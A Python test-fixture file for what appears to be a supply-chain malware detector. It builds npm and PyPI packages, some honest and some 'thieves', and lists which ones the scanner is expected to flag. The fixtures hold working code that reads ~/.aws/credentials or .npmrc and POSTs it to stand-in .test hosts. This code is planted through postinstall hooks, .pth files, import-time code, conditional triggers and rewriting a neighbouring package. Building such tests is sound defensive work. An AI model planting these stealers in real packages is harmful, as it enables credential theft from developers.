"""Several packages in one lockfile, some of them thieves: who is to be named, and that nobody else is."""

from __future__ import annotations

import json
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Literal

import msgspec

from tests.packages import build
from tests.packages.pypi_thieves import posting
from tests.packages.settled import javascript

HONEST = ("word-count", "line-join", "tidy-path", "pick-first")


class Company(msgspec.Struct, frozen=True, kw_only=True):
    """One lockfile's packages. `guilty` by name, each with the verdicts that are right; all others must have no
    finding. `unclear` may be inconclusive besides."""

    name: str
    ecosystem: Literal["npm", "pypi"]
    build: Callable[[Path], Sequence[Path]]
    guilty: dict[str, tuple[str, ...]] = {}
    unclear: tuple[str, ...] = ()
    why: str


def _honest(folder: Path) -> list[Path]:
    code = "module.exports = (text) => String(text).trim();\n"
    return [build.npm(folder, name, {"index.js": code}) for name in HONEST]


def steal(host: str, decoy: str = ".aws/credentials") -> str:
    """A script that sends a file of the home to a host."""
    return javascript(
        f"""
        const secret = fs.readFileSync(`${{os.homedir()}}/{decoy}`, "utf8");
        await fetch("https://{host}/c", {{ method: "POST", body: secret }});
        """
    )


def _planted(folder: Path) -> list[Path]:
    files = {"index.js": "module.exports = 1;\n", "setup.js": steal("in.grid-metrics.test")}
    return [*_honest(folder), build.npm(folder, "grid-lines", files, scripts={"postinstall": "node setup.js"})]


def _two(folder: Path) -> list[Path]:
    late = {"index.js": steal("in.late-cells.test", ".npmrc")}
    return [*_planted(folder), build.npm(folder, "cell-format", late)]


def _framed(folder: Path) -> list[Path]:
    """It rewrites its neighbour where there is one, from within the neighbour's folder and under its name."""
    write = f"""
    const fs = require("fs");
    const path = require("path");
    const place = path.join(__dirname, "..", "row-sorter");
    if (fs.existsSync(place)) {{
      process.title = "row-sorter";
      process.chdir(place);
      fs.writeFileSync(path.join(place, "index.js"), {json.dumps(steal("in.framed-rows.test"))});
    }}
    """
    files = {"index.js": "module.exports = 2;\n", "prepare.js": write}
    sorter = build.npm(folder, "row-sorter", {"index.js": "module.exports = (rows) => rows.sort();\n"})
    culprit = build.npm(folder, "row-filter", files, scripts={"postinstall": "node prepare.js"})
    return [*_honest(folder), sorter, culprit]


def _conditional(folder: Path) -> list[Path]:
    """It acts only where a certain other package is installed."""
    code = f"""
    const fs = require("fs");
    const path = require("path");
    if (fs.existsSync(path.join(__dirname, "..", "ledger-core"))) {{
      (() => {{ {steal("in.ledger-view.test")} }})();
    }}
    """
    core = build.npm(folder, "ledger-core", {"index.js": "module.exports = 3;\n"})
    return [*_honest(folder), core, build.npm(folder, "ledger-view", {"index.js": code})]


def _loaded(folder: Path) -> list[Path]:
    """An honest package loads the thief, which then acts in its process."""
    thief = build.npm(folder, "pad-digits", {"index.js": steal("in.pad-digits.test")})
    code = 'require("pad-digits");\nmodule.exports = 4;\n'
    honest = build.npm(folder, "clock-face", {"index.js": code}, dependencies={"pad-digits": "1.0.0"})
    return [*_honest(folder), thief, honest]


def _wheels(folder: Path) -> list[Path]:
    code = "def first(values):\n    return values[0]\n"
    return [build.wheel(folder, name, {f"{name.replace('-', '_')}/__init__.py": code}) for name in HONEST]


def _python_steal(host: str) -> str:
    return posting("~/.aws/credentials", f"https://{host}/c")


def _pth(folder: Path) -> list[Path]:
    files = {"day_names.pth": "import _day_names_start\n", "_day_names_start.py": _python_steal("in.day-names.test"),
             "day_names/__init__.py": "DAYS = 7\n"}  # fmt: skip
    return [*_wheels(folder), build.wheel(folder, "day-names", files)]


def _import_time(folder: Path) -> list[Path]:
    files = {"row_total/__init__.py": _python_steal("in.row-total.test")}
    return [*_wheels(folder), build.wheel(folder, "row-total", files)]


def _python_framed(folder: Path) -> list[Path]:
    write = f"""
import pathlib
place = pathlib.Path(__file__).parent.parent / "tally_sheet" / "__init__.py"
if place.exists():
    place.write_text({_python_steal("in.tally.test")!r})
"""
    culprit = build.wheel(folder, "aa-columns", {"aa_columns/__init__.py": write})
    victim = build.wheel(folder, "tally-sheet", {"tally_sheet/__init__.py": "TALLY = 1\n"})
    return [culprit, *_wheels(folder), victim]


COMPANIES = [
    Company(name="npm-planted", ecosystem="npm", build=_planted, guilty={"grid-lines": ("malicious",)},
            why="a thief among honest packages"),
    Company(name="npm-two", ecosystem="npm", build=_two,
            guilty={"grid-lines": ("malicious",), "cell-format": ("malicious",)}, why="two thieves, with two ways in"),
    Company(name="npm-framed", ecosystem="npm", build=_framed, guilty={"row-filter": ("malicious", "suspicious")},
            why="it changes its neighbour, whose import then steals; alone it does nothing"),
    Company(name="npm-conditional", ecosystem="npm", build=_conditional,
            guilty={"ledger-view": ("malicious", "suspicious")}, why="it acts only beside a certain other package"),
    Company(name="npm-loaded", ecosystem="npm", build=_loaded, guilty={"pad-digits": ("malicious",)},
            unclear=("clock-face",), why="an honest package loads a thief"),
    Company(name="pypi-pth", ecosystem="pypi", build=_pth, guilty={"day-names": ("malicious",)},
            why="a .pth file acts in every start of Python, so in every package's"),
    Company(name="pypi-import", ecosystem="pypi", build=_import_time, guilty={"row-total": ("malicious",)},
            why="a thief among honest packages"),
    Company(name="pypi-framed", ecosystem="pypi", build=_python_framed,
            guilty={"aa-columns": ("malicious", "suspicious")}, why="it changes its neighbour when it is imported"),
]  # fmt: skip
